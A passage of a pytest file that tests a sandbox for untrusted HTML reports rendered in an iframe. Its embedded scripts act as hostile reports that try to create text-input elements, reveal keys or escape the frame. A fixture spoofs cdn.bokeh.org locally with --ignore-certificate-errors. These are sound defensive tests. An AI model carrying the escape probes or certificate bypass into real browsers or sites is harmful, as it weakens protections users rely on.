    "left.push(String(document.pictureInPictureEnabled));"
    "parent.postMessage(`left ${{left}}`, '*')</script>"
)


def test_a_report_has_no_interface_that_reveals_keys(site, listener):
    assert_message_sent(site, listener, "revealing", REVEALING, "left false")


FIELDS = (
    "<script>const xhtml = 'http://www.w3.org/1999/xhtml', made = new Set();"
    "const interfaces = {{datalist: HTMLDataListElement, input: HTMLInputElement,"
    "  select: HTMLSelectElement, textarea: HTMLTextAreaElement}};"
    "const inside = text => {{ const place = document.createElement('div');"
    "  place.innerHTML = text; return place.firstChild }};"
    "for (const name in interfaces) for (const way of [() => document.createElement(name),"
    "() => document.createElementNS(xhtml, `h:${{name}}`),"
    "() => new Document().createElementNS(xhtml, name),"
    "() => document.implementation.createDocument(xhtml, name).documentElement,"
    "() => inside(`<${{name}}>`), () => inside(`<p><${{name}}>`).firstChild,"
    "() => document.createRange().createContextualFragment(`<${{name}}>`).firstChild,"
    "() => new DOMParser().parseFromString(`<${{name}}>`, 'text/html').body.firstChild,"
    "() => {{ class Field extends interfaces[name] {{}};"
    "  customElements.define(`f-${{name}}`, Field, {{extends: name}}); return new Field() }}])"
    "  try {{ const element = way();"
    "    made.add(element instanceof Element ? element.localName : 'none') }}"
    "  catch (error) {{ made.add(error.name) }};"
    "parent.postMessage([...made].sort().join(), '*')</script>"
)


def test_a_report_makes_no_element_that_takes_text(site, listener):
    made = "none,x-datalist,x-input,x-select,x-textarea"
    assert_message_sent(site, listener, "fields", FIELDS, made)


def test_a_report_is_never_the_page_itself(site, listener):
    address = site.store("direct", written(RAN + "<h1>theirs</h1>", listener, "direct"))
    site.tab.open(address)
    wait_until(lambda: "ran" in site.tab.messages(), "it is shown in its page")
    content = site.tab.run("document.querySelector('iframe').src")
    # Opening the frame's content directly redirects to the page, or is refused.
    site.tab.call("Page.navigate", url=content)
    time.sleep(1)
    assert "theirs" not in site.tab.run("document.documentElement.outerHTML")
    led = site.tab.run("document.querySelector('h1').textContent")
    assert (led, site.tab.address() == address) in [
        ("direct.html", True),
        ("Request failed", False),
    ]


@pytest.fixture(scope="module", params=["newest", "oldest"])
def drawn(request, tmp_path_factory):
    """Reports as Dask writes them: with Bokeh inline, and with Bokeh from its CDN."""
    directory = tmp_path_factory.mktemp("drawn")
    # The interpreter can abort as it ends while threads of Dask still run, so the script ends the
    # process itself.
    script = """
import os
import sys
from dask.distributed import Client, LocalCluster, performance_report
if __name__ == "__main__":
    with LocalCluster(n_workers=1, processes=False, dashboard_address=":0") as cluster:
        with Client(cluster) as client:
            for mode in ("inline", "cdn"):
                with performance_report(f"{sys.argv[1]}/{mode}.html", mode=mode):
                    client.gather(client.map(lambda n: sum(range(n)), range(100_000, 100_040)))
    import bokeh
    print(bokeh.__file__, flush=True)
    os._exit(0)
"""
    (directory / "script.py").write_text(script)
    done = subprocess.run(
        [python_named(request.param.upper()), directory / "script.py", directory],
        capture_output=True,
        text=True,
        timeout=300,
        env=clean_environment(),
    )
    assert done.returncode == 0, done.stderr[-3000:]
    return directory, Path(done.stdout.splitlines()[-1]).parent / "server" / "static" / "js"


@pytest.fixture
def published(drawn, tmp_path):
    """Serves Bokeh's CDN on this machine, where files are named by their release."""
    _, files = drawn

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            name = re.sub(r"-\d[\w.]*?(?=\.(min\.)?js$)", "", Path(self.path).name)
            body = (files / name).read_bytes()
            self.send_response(200)
            self.send_header("Content-Type", "text/javascript")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_):
            pass

    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    trustme.CA().issue_cert("cdn.bokeh.org").configure_cert(context)
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    site = Site(
        tmp_path,
        arguments=[
            f"--host-resolver-rules=MAP cdn.bokeh.org:443 127.0.0.1:{server.server_port}",
            "--ignore-certificate-errors",
        ],
    )
    yield site
    site.close()
    server.shutdown()
    server.server_close()


DRAWN = """
(() => {
  const all = (root) => [...root.querySelectorAll("*")].flatMap((element) =>
    [element, ...(element.shadowRoot ? all(element.shadowRoot) : [])]);
  const elements = all(document);
  const canvases = elements.filter((element) => element.localName === "canvas");
  const pixels = canvases.filter((canvas) => canvas.width && canvas.height && canvas
    .getContext("2d")?.getImageData(0, 0, canvas.width, canvas.height).data.some(Boolean));
  return {
    documents: window.Bokeh?.documents?.length ?? 0,
    canvases: pixels.length,
    text: elements.map((element) => element.textContent).join(" ").includes("Duration"),
    rtc: typeof window.RTCPeerConnection,
  };
})()
"""


@pytest.mark.parametrize("mode", ["inline", "cdn"])
def test_what_dask_draws_is_drawn(drawn, published, mode):
    directory, _ = drawn
    site = published
    address = site.store(mode, (directory / f"{mode}.html").read_text(encoding="utf-8"))
    site.tab.open(address)

    def draws():
        if not site.tab.frames:
            return None
        found = site.tab.run(DRAWN, site.tab.frames[-1])
        return found if found["documents"] and found["canvases"] else None

    found = wait_until(draws, "Bokeh draws", 60)
    assert (found["documents"], found["text"], found["rtc"]) == (1, True, "undefined"), found
    assert found["canvases"] >= 1, found
    assert site.tab.address() == address
